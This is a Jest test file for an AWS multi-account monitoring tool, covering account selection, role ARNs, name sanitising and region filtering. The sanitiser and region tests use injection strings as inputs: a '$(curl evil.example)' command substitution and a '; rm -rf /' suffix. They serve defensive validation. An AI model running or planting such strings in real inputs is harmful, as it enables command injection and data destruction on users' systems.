// Which accounts of an organization are scanned, and through which role: pure, no AWS.

import { accountConfigOf, enabledRegionNames, partitionOf, safeAccountName, selectAccounts, type OrganizationAccount } from '../../src/organization/account-selection.js';
import type { OrganizationConfig } from '../../src/config/schema.js';

const anAccount = (id: string, name: string, state = 'ACTIVE', arn = `arn:aws:organizations::123456789012:account/o-abc/${id}`): OrganizationAccount => ({ id, name, state, arn });
const anOrganization = (overrides: Partial<OrganizationConfig> = {}): OrganizationConfig => ({
  roleName: 'aws-monitor-readonly',
  include: [],
  exclude: [],
  regions: [],
  ...overrides,
});

const ACCOUNTS = [
  anAccount('123456789012', 'management'),
  anAccount('222222222222', 'prod-eu'),
  anAccount('111111111111', 'prod-us'),
  anAccount('333333333333', 'sandbox'),
  anAccount('444444444444', 'old', 'SUSPENDED'),
];
const ids = (accounts: readonly OrganizationAccount[]) => accounts.map((a) => a.id);

describe('organization account selection', () => {
  it('keeps every ACTIVE account, the management account too, in id order', () => {
    const selection = selectAccounts(ACCOUNTS, anOrganization());
    expect(ids(selection.selected)).toEqual(['111111111111', '123456789012', '222222222222', '333333333333']);
    expect(selection).toMatchObject({ listed: 5, active: 4 });
  });

  it('never selects a suspended, closing or closed account, even when included by name', () => {
    const states = ['SUSPENDED', 'PENDING_CLOSURE', 'CLOSED', 'PENDING_ACTIVATION'].map((state, i) => anAccount(`55555555555${i}`, `gone-${i}`, state));
    expect(selectAccounts(states, anOrganization({ include: ['gone-*'] })).selected).toEqual([]);
  });

  it('include globs match the account id or the name, case-insensitively', () => {
    expect(ids(selectAccounts(ACCOUNTS, anOrganization({ include: ['PROD-*'] })).selected)).toEqual(['111111111111', '222222222222']);
    expect(ids(selectAccounts(ACCOUNTS, anOrganization({ include: ['3333*', 'management'] })).selected)).toEqual(['123456789012', '333333333333']);
  });

  it('exclude wins over include, by id or by name', () => {
    expect(ids(selectAccounts(ACCOUNTS, anOrganization({ include: ['prod-*'], exclude: ['*-eu'] })).selected)).toEqual(['111111111111']);
    expect(ids(selectAccounts(ACCOUNTS, anOrganization({ exclude: ['123456789012', 'sand?ox'] })).selected)).toEqual(['111111111111', '222222222222']);
  });

  it('treats glob punctuation other than * and ? literally', () => {
    expect(ids(selectAccounts([anAccount('111111111111', 'a.b'), anAccount('222222222222', 'axb')], anOrganization({ include: ['a.b'] })).selected)).toEqual(['111111111111']);
  });
});

describe('the role of an organization account', () => {
  it("is role_name in the account, in the partition of its ARN, with the section's session name and regions", () => {
    const account = accountConfigOf(anAccount('111111111111', 'prod'), anOrganization({ regions: ['us-east-2', 'eu-west-1'], sessionName: 'ci', externalId: 'x' }), 'us-east-2');
    expect(account).toEqual({
      name: 'prod',
      roleArn: 'arn:aws:iam::111111111111:role/aws-monitor-readonly',
      sessionName: 'ci',
      externalId: 'x',
      regions: ['us-east-2', 'eu-west-1'],
      regionSource: '[organization] regions',
    });
  });

  it('keeps a role path and takes the GovCloud or China partition', () => {
    expect(
      accountConfigOf(
        anAccount('111111111111', 'gov', 'ACTIVE', 'arn:aws-us-gov:organizations::111111111111:account/o-1/111111111111'),
        anOrganization({ roleName: 'monitoring/aws-monitor' }),
        'us-gov-west-1',
      ).roleArn,
    ).toBe('arn:aws-us-gov:iam::111111111111:role/monitoring/aws-monitor');
    expect(partitionOf({}, 'cn-north-1')).toBe('aws-cn');
    expect(partitionOf({}, 'eu-west-1')).toBe('aws');
  });

  it("leaves regions unset (the run's region) for an empty list and for enabled, which discovery fills in", () => {
    expect(accountConfigOf(anAccount('111111111111', 'prod'), anOrganization(), 'us-east-2').regions).toBeUndefined();
    expect(accountConfigOf(anAccount('111111111111', 'prod'), anOrganization({ regions: 'enabled' }), 'us-east-2').regions).toBeUndefined();
  });
});

describe('account names from Organizations', () => {
  it('keeps ordinary names as they are', () => {
    expect(safeAccountName('Prod EU (payments)', '111111111111')).toBe('Prod EU -payments-');
    expect(safeAccountName('team.data_lake+dev@corp', '111111111111')).toBe('team.data_lake+dev@corp');
  });

  it('drops what could run in a shell or a workflow, or read as a flag, and falls back to the id', () => {
    expect(safeAccountName('$(curl evil.example)`id`;|&', '111111111111')).toBe('curl evil.example-id-');
    expect(safeAccountName('--help', '111111111111')).toBe('help');
    expect(safeAccountName('\u0000\u001b[31m', '111111111111')).toBe('31m');
    expect(safeAccountName('"\'<>', '111111111111')).toBe('111111111111');
    expect(safeAccountName('x'.repeat(80), '111111111111')).toHaveLength(50);
  });
});

describe('enabled regions from DescribeRegions', () => {
  it('keeps regions that need no opt-in or were opted in, sorted, and drops not-opted-in ones', () => {
    expect(
      enabledRegionNames([
        { RegionName: 'us-east-2', OptInStatus: 'opt-in-not-required' },
        { RegionName: 'af-south-1', OptInStatus: 'opted-in' },
        { RegionName: 'ap-east-1', OptInStatus: 'not-opted-in' },
        { RegionName: 'eu-west-1' },
      ]),
    ).toEqual(['af-south-1', 'eu-west-1', 'us-east-2']);
  });

  it('ignores a name that is not a region code', () => {
    expect(enabledRegionNames([{ RegionName: 'us-east-2; rm -rf /' }, { RegionName: '' }, {}])).toEqual([]);
  });
});
